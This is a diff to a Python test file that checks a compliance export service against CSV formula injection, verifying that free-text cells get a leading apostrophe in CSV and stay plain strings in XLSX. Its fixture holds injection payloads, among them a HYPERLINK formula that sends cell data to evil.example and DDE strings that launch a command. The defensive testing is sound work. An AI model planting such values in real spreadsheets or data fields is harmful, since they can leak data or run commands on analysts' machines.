@@ -14,10 +14,12 @@ from typing import Any
 import openpyxl
 import pytest
 from frictionless import Resource, Schema, validate
-from sqlalchemy import text
+from sqlalchemy import text, update
 from sqlalchemy.engine import Engine
 from sqlalchemy.orm import Session
 
+from service.auth.models import Operator
+from service.cabins.models import Cabin
 from service.cabins.published import SCHEMA_DIR
 from tests.auth.factories import bearer, make_key
 from tests.compliance.conftest import World
@@ -186,7 +188,8 @@ def test_xlsx_keeps_text_as_text_and_survives_control_characters(
             )
         )
     }
-    assert csv_rows[str(cabin.id)]["venue_name"] == cabin.venue_name
+    # the CSV keeps the control character; its formula guard is tested below
+    assert csv_rows[str(cabin.id)]["venue_name"] == "'" + cabin.venue_name
 
 
 def test_geojson_properties_are_the_csv_columns(client, world: World) -> None:
@@ -237,3 +240,69 @@ def test_csv_coordinates_are_plain_decimals_near_the_meridian(
     r = client.get("/v1/compliance/export.csv", headers=world.keys["national"])
     row = next(row for row in csv.DictReader(io.StringIO(r.text)) if row["id"] == str(cabin.id))
     assert (row["lon"], row["lat"]) == ("0.00004", "-0.0000012")
+
+
+INJECTED = {
+    "venue_name": '=HYPERLINK("http://evil.example/?"&A1,"Pharmacie")',
+    "operator_reference": "+33-SHOP-1",
+    "ars_declaration_reference": "-2+3+cmd|' /C calc'!A0",
+    "operator_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def _inject(db: Session, world: World) -> Cabin:
+    cabin = world.cabins["a84"]
+    cabin.venue_name = INJECTED["venue_name"]
+    cabin.operator_reference = INJECTED["operator_reference"]
+    cabin.ars_declaration_reference = INJECTED["ars_declaration_reference"]
+    world.cabins["b84"].venue_name = "\tPharmacie"
+    world.cabins["a11"].venue_name = "\rPharmacie"
+    db.execute(
+        update(Operator)
+        .where(Operator.id == world.operator_a)
+        .values(name=INJECTED["operator_name"])
+    )
+    db.flush()
+    return cabin
+
+
+def test_csv_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
+    client, db: Session, world: World, tmp_path: Path
+) -> None:
+    """Operator-typed text beginning with = + - @ tab or CR is run as a formula when an analyst
+    opens the CSV in Excel or LibreOffice: such a cell gets a leading apostrophe (OWASP's CSV
+    injection guard), in the free-text columns only; numbers (a longitude west of Greenwich),
+    dates and codes are written as they are, and the file still validates."""
+    cabin = _inject(db, world)
+    cabin.geom = "SRID=4326;POINT(-1.5536 47.2184)"  # type: ignore[assignment]  # Nantes
+    db.flush()
+    r = client.get("/v1/compliance/export.csv", headers=world.keys["national"])
+    assert r.status_code == 200
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(r.text))}
+    row = rows[str(cabin.id)]
+    for name, value in INJECTED.items():
+        assert row[name] == "'" + value, name
+    assert row["lon"] == "-1.5536"
+    assert rows[str(world.cabins["b84"].id)]["venue_name"] == "'\tPharmacie"
+    assert rows[str(world.cabins["a11"].id)]["venue_name"] == "'\rPharmacie"
+    assert rows[str(world.cabins["b11"].id)]["venue_name"] == world.cabins["b11"].venue_name
+    for other in rows.values():
+        assert not other["reference"].startswith("'")
+        assert not (other["failing_evidence"] or "{").startswith("'")
+    path = tmp_path / "export.csv"
+    path.write_bytes(r.content)
+    schema = Schema.from_descriptor(json.loads(TABLESCHEMA.read_text()))
+    report = validate(Resource(path=path.name, basepath=str(tmp_path), schema=schema))
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
+
+
+def test_xlsx_keeps_formula_like_text_as_it_was_typed(client, db: Session, world: World) -> None:
+    """The workbook needs no apostrophe: its cells are typed, and text stays text."""
+    cabin = _inject(db, world)
+    r = client.get("/v1/compliance/export.xlsx", headers=world.keys["national"])
+    sheet = openpyxl.load_workbook(io.BytesIO(r.content))["compliance"]
+    header = [c.value for c in sheet[1]]
+    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == str(cabin.id))
+    for name, value in INJECTED.items():
+        cell = row[header.index(name)]
+        assert (cell.data_type, cell.value) == ("s", value), name
